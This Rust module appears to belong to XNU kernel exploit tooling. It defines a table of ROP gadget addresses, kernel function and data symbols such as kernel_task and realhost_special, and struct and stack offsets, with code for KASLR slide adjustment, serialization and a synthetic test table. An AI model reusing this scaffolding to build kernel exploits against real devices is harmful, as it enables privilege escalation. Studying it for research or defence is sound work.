use serde::{Deserialize, Serialize};

use crate::arch::Arch;

/// Number of fields that move with the kernel slide
pub const SLID_COUNT: usize = 15;
/// Number of structural fields that never move
pub const UNSLID_COUNT: usize = 4;
/// Number of words in a serialized table
pub const TABLE_WORDS: usize = SLID_COUNT + UNSLID_COUNT;

/// Absolute kernel addresses of gadgets, functions and data symbols
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct SlidOffsets {
    pub gadget_load_x20_x19: u64,
    pub gadget_ldp_x9_add_sp_sp_0x10: u64,
    pub gadget_ldr_x0_sp_0x20_load_x22_x19: u64,
    pub gadget_add_x0_x0_x19_load_x20_x19: u64,
    pub gadget_blr_x20_load_x22_x19: u64,
    pub gadget_str_x0_x19_load_x20_x19: u64,
    pub gadget_ldr_x0_x21_load_x24_x19: u64,
    #[serde(rename = "gadget_OSUnserializeXML_return")]
    pub gadget_osunserializexml_return: u64,
    pub frag_mov_x1_x20_blr_x19: u64,
    pub func_ldr_x0_x0: u64,
    pub func_current_task: u64,
    pub func_ipc_port_copyout_send: u64,
    pub func_ipc_port_make_send: u64,
    pub data_kernel_task: u64,
    pub data_realhost_special: u64,
}

impl SlidOffsets {
    pub const NAMES: [&'static str; SLID_COUNT] = [
        "gadget_load_x20_x19",
        "gadget_ldp_x9_add_sp_sp_0x10",
        "gadget_ldr_x0_sp_0x20_load_x22_x19",
        "gadget_add_x0_x0_x19_load_x20_x19",
        "gadget_blr_x20_load_x22_x19",
        "gadget_str_x0_x19_load_x20_x19",
        "gadget_ldr_x0_x21_load_x24_x19",
        "gadget_OSUnserializeXML_return",
        "frag_mov_x1_x20_blr_x19",
        "func_ldr_x0_x0",
        "func_current_task",
        "func_ipc_port_copyout_send",
        "func_ipc_port_make_send",
        "data_kernel_task",
        "data_realhost_special",
    ];

    /// Field values in record order
    pub fn values(&self) -> [u64; SLID_COUNT] {
        [
            self.gadget_load_x20_x19,
            self.gadget_ldp_x9_add_sp_sp_0x10,
            self.gadget_ldr_x0_sp_0x20_load_x22_x19,
            self.gadget_add_x0_x0_x19_load_x20_x19,
            self.gadget_blr_x20_load_x22_x19,
            self.gadget_str_x0_x19_load_x20_x19,
            self.gadget_ldr_x0_x21_load_x24_x19,
            self.gadget_osunserializexml_return,
            self.frag_mov_x1_x20_blr_x19,
            self.func_ldr_x0_x0,
            self.func_current_task,
            self.func_ipc_port_copyout_send,
            self.func_ipc_port_make_send,
            self.data_kernel_task,
            self.data_realhost_special,
        ]
    }

    pub fn from_values(v: [u64; SLID_COUNT]) -> Self {
        Self {
            gadget_load_x20_x19: v[0],
            gadget_ldp_x9_add_sp_sp_0x10: v[1],
            gadget_ldr_x0_sp_0x20_load_x22_x19: v[2],
            gadget_add_x0_x0_x19_load_x20_x19: v[3],
            gadget_blr_x20_load_x22_x19: v[4],
            gadget_str_x0_x19_load_x20_x19: v[5],
            gadget_ldr_x0_x21_load_x24_x19: v[6],
            gadget_osunserializexml_return: v[7],
            frag_mov_x1_x20_blr_x19: v[8],
            func_ldr_x0_x0: v[9],
            func_current_task: v[10],
            func_ipc_port_copyout_send: v[11],
            func_ipc_port_make_send: v[12],
            data_kernel_task: v[13],
            data_realhost_special: v[14],
        }
    }
}

/// Structure-field offsets and stack-layout constants
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct UnslidOffsets {
    pub off_task_itk_self: u64,
    pub off_task_itk_space: u64,
    #[serde(rename = "OSUnserializeXML_stack")]
    pub osunserializexml_stack: u64,
    pub is_io_service_open_extended_stack: u64,
}

impl UnslidOffsets {
    pub const NAMES: [&'static str; UNSLID_COUNT] = [
        "off_task_itk_self",
        "off_task_itk_space",
        "OSUnserializeXML_stack",
        "is_io_service_open_extended_stack",
    ];

    pub fn values(&self) -> [u64; UNSLID_COUNT] {
        [
            self.off_task_itk_self,
            self.off_task_itk_space,
            self.osunserializexml_stack,
            self.is_io_service_open_extended_stack,
        ]
    }

    pub fn from_values(v: [u64; UNSLID_COUNT]) -> Self {
        Self {
            off_task_itk_self: v[0],
            off_task_itk_space: v[1],
            osunserializexml_stack: v[2],
            is_io_service_open_extended_stack: v[3],
        }
    }
}

/// Complete set of resolved offsets.
///
/// Slide adjustments only ever touch `slid`; `unslid` holds values that are
/// the same on every boot.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct OffsetTable {
    pub slid: SlidOffsets,
    pub unslid: UnslidOffsets,
}

impl OffsetTable {
    /// Copy with `slide` added to every slid field
    pub fn slid_by(&self, arch: Arch, slide: u64) -> Self {
        Self {
            slid: SlidOffsets::from_values(self.slid.values().map(|v| arch.slide(v, slide))),
            unslid: self.unslid,
        }
    }

    /// Copy with `slide` subtracted from every slid field
    pub fn unslid_by(&self, arch: Arch, slide: u64) -> Self {
        Self {
            slid: SlidOffsets::from_values(self.slid.values().map(|v| arch.unslide(v, slide))),
            unslid: self.unslid,
        }
    }

    /// Every slid address has been found
    pub fn is_complete(&self) -> bool {
        self.slid.values().iter().all(|&v| v != 0)
    }

    /// First field whose value does not fit a word of `arch`
    pub fn field_exceeding(&self, arch: Arch) -> Option<(&'static str, u64)> {
        self.named_fields()
            .into_iter()
            .find(|&(_, value)| value > arch.mask())
    }

    /// All fields paired with their names, slid group first
    pub fn named_fields(&self) -> Vec<(&'static str, u64)> {
        SlidOffsets::NAMES
            .iter()
            .copied()
            .zip(self.slid.values())
            .chain(UnslidOffsets::NAMES.iter().copied().zip(self.unslid.values()))
            .collect()
    }

    /// Serialized size of a table for `arch`
    pub fn record_size(arch: Arch) -> usize {
        TABLE_WORDS * arch.word_size()
    }

    pub fn encode(&self, arch: Arch, out: &mut Vec<u8>) {
        for value in self.slid.values().into_iter().chain(self.unslid.values()) {
            arch.encode_word(value, out);
        }
    }

    /// Decode a table; returns `None` if `bytes` is shorter than one record
    pub fn decode(arch: Arch, bytes: &[u8]) -> Option<Self> {
        let size = Self::record_size(arch);
        if bytes.len() < size {
            return None;
        }

        let mut words = bytes[..size]
            .chunks_exact(arch.word_size())
            .map(|chunk| arch.decode_word(chunk));

        let mut slid = [0u64; SLID_COUNT];
        for slot in slid.iter_mut() {
            *slot = words.next()?;
        }
        let mut unslid = [0u64; UNSLID_COUNT];
        for slot in unslid.iter_mut() {
            *slot = words.next()?;
        }

        Some(Self {
            slid: SlidOffsets::from_values(slid),
            unslid: UnslidOffsets::from_values(unslid),
        })
    }
}

#[cfg(test)]
pub(crate) fn sample_table() -> OffsetTable {
    OffsetTable {
        slid: SlidOffsets::from_values(std::array::from_fn(|i| {
            0xffffff8004004000 + (i as u64) * 0x1230
        })),
        unslid: UnslidOffsets {
            off_task_itk_self: 0xe8,
            off_task_itk_space: 0x2a0,
            osunserializexml_stack: 0xb8,
            is_io_service_open_extended_stack: 0x148,
        },
    }
}
